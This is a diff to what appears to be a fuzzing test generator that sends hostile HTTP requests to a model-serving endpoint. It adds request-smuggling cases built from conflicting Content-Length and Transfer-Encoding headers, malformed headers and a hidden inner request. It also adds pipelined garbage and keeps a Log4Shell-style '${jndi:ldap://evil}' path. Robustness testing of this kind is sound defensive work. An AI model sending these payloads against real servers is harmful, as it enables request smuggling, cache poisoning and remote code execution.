@@ -158,7 +158,7 @@ def odd_path(dice: random.Random) -> bytes:
             "/%ff%fe",
             "/\u00e9",
             "/v1/models/${jndi:ldap://evil}:predict",
-            "/v1/models/flows:predict#" + SECRET,
+            "/v1/models/flows:predict#part",
         )
     )
     return _post(_body([PRIVATE]), path=path)
@@ -263,6 +263,60 @@ def wrong_feedback(dice: random.Random) -> bytes:
     return _post(json.dumps(body).encode(), path="/v1/models/flows:feedback")
 
 
+def smuggled(dice: random.Random) -> bytes:
+    """A request within another, about whose end two readers could differ: lengths, codings, line ends, names."""
+    body = _body([PRIVATE])
+    inner = b"GET /health/live HTTP/1.1\r\nhost: localhost\r\n\r\n"
+    size = f"content-length: {len(body)}"
+    coding = dice.choice(("Transfer-Encoding: chunked", "transfer-encoding:chunked", "TRANSFER-ENCODING:\tchunked"))
+    odd_coding = dice.choice(
+        ("xchunked", "chunked, identity", "identity, chunked", '"chunked"', "\x0bchunked", "chunked;a", "gzip", "", ",")
+    )
+    odd_size = dice.choice(
+        (f"{len(body)}, {len(body)}", f"+{len(body)}", f"{len(body)} 1", "0x9", "", "1e1", "9" * 30, "٣")
+    )
+    lines = dice.choice(
+        (
+            f"{coding}\r\n{size}",
+            f"{size}\r\n{coding}",
+            f"{coding}\r\n{coding}",
+            f"transfer-encoding: {odd_coding}",
+            f"{coding}\r\ntransfer-encoding: {odd_coding}",
+            f"content-length: {odd_size}",
+            f"{size}\r\ncontent-length: {len(body) + dice.choice((-1, 1, len(inner)))}",
+            f"content-length : {len(body)}",
+            f"x-a: b\r\n {coding}\r\n{size}",
+            f"x-a: b\n{coding}\r\n{size}",
+            f"x-a: b\r{coding}\r\n{size}",
+            f"x-a: b\0{coding}\r\n{size}",
+            f"x-a\r\n{size}",
+            f": b\r\n{size}",
+            f"x(a): b\r\n{size}",
+            f"host: evil.example\r\n{size}",
+        )
+    )
+    content = dice.choice((body, b"0\r\n\r\n", b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body)))
+    target = dice.choice((PREDICT, PREDICT, f"http://localhost{PREDICT}"))
+    head = f"POST {target} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n{lines}\r\n\r\n"
+    return head.encode("utf-8") + content + inner
+
+
+def pipelined(dice: random.Random) -> bytes:
+    """Good requests one behind another, and behind them what is none, and a good one again."""
+    body = _body([PRIVATE])
+    kept = _post(body).replace(b"connection: close\r\n", b"")
+    garbage = dice.choice(
+        (
+            dice.randbytes(dice.randint(1, 3_000)),
+            b"\r\n" * dice.randint(1, 500) + b"\0\r\n\r\n",
+            b"{}" * dice.randint(1, 30_000),
+            b"GET /" + b"a" * dice.randint(1, 50_000),
+            b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * dice.randint(1, 300),
+        )
+    )
+    return kept * dice.choice((1, 2, 30)) + garbage + kept
+
+
 def good(dice: random.Random) -> bytes:
     """A request that must be answered, between the others."""
     return _post(_body([PRIVATE] * dice.randint(1, 5)))
@@ -272,12 +326,12 @@ CASES: Mapping[str, Callable[[random.Random], bytes]] = {
     case.__name__: case
     for case in (
         malformed_json, huge_number, deep_nesting, wrong_rows, wrong_type, wrong_length, cut_short, bad_chunks,
-        wrong_tensors, wrong_arrow, wrong_feedback, odd_path, odd_method, odd_headers, good,
+        wrong_tensors, wrong_arrow, wrong_feedback, odd_path, odd_method, odd_headers, smuggled, pipelined, good,
     )
 }  # fmt: skip
 """Every kind of hostile request, and the good one, by name."""
 
-UNENDING = frozenset({"wrong_length", "cut_short", "bad_chunks", "odd_method", "odd_headers"})
+UNENDING = frozenset({"wrong_length", "cut_short", "bad_chunks", "odd_method", "odd_headers", "pipelined"})
 """Kinds that may leave a server waiting for more."""
 
 
